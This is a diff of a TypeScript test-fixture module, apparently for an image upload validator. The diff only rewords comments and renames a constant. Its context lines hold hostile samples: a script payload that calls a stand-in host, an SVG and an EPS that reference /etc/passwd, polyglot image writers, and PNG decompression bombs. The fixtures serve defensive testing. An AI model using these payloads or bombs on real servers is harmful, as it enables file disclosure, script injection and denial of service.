@@ -5,8 +5,8 @@ export const PAYLOAD = '<script>fetch("https://mechant.example")</script><?php s
 
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script><image href="/etc/passwd"/></svg>`
 
-/** Pictures of kinds that nobody photographs, all named .jpg. Their readers are where servers were broken into. */
-export const UNWANTED_PICTURES: Record<string, Buffer> = {
+/** Unsupported formats whose decoders are known attack targets, all named .jpg. */
+export const UNSUPPORTED_PICTURES: Record<string, Buffer> = {
   SVG: Buffer.from(SVG),
   PDF: Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'),
   EPS: Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n'),
@@ -23,7 +23,7 @@ export const UNWANTED_PICTURES: Record<string, Buffer> = {
   ZIP: Buffer.from('PK\x03\x04', 'latin1'),
 }
 
-/** Real pictures with something else in them, that a browser or a server could take for a program. */
+/** Valid pictures that a browser or a server could also run as a program. */
 export function writePolyglots(samples: Samples): Record<string, string> {
   const tail = (name: string) =>
     samples.write(name, Buffer.concat([samples.read(name), Buffer.from(PAYLOAD)]))
@@ -42,7 +42,7 @@ export function writePolyglots(samples: Samples): Record<string, string> {
   }
 }
 
-/** A few kilobytes that would be gigabytes. */
+/** Decompression bombs: a few kilobytes that decode to gigabytes. */
 export const BOMBS: Record<string, { bytes: () => Buffer; problem: string }> = {
   'a PNG of 30,000 by 30,000 pixels in its header': {
     bytes: () => png({ width: 30_000, height: 30_000, rows: Buffer.alloc(1_000) }),
@@ -56,7 +56,7 @@ export const BOMBS: Record<string, { bytes: () => Buffer; problem: string }> = {
   'a PNG with ten compressed texts of 50 MB': { bytes: () => textBomb(), problem: 'too_heavy' },
 }
 
-/** 486 KB that any reader of its metadata unpacks to 500 MB. */
+/** 486 KB whose metadata decompresses to 500 MB. */
 export function textBomb(): Buffer {
   const text = deflateSync(Buffer.alloc(50_000_000, 'a'), { level: 9 })
   const texts = Array.from({ length: 10 }, (_, index) =>
@@ -65,7 +65,7 @@ export function textBomb(): Buffer {
   return png({ width: 8, height: 8, rows: Buffer.alloc(8 * 2) }, Buffer.concat(texts))
 }
 
-/** A whole picture of one bit per pixel, all of the same colour. */
+/** A valid picture of one bit per pixel in a single colour. */
 export const blankPng = (side: number) =>
   png({ width: side, height: side, rows: Buffer.alloc(side * (Math.ceil(side / 8) + 1)) })
 
@@ -78,7 +78,7 @@ function chunkOf(type: string, content: Buffer): Buffer {
   return bytes
 }
 
-/** In one bit per pixel. */
+/** One bit per pixel. */
 function png(
   { width, height, rows }: { width: number; height: number; rows: Buffer },
   extra: Buffer = Buffer.alloc(0),
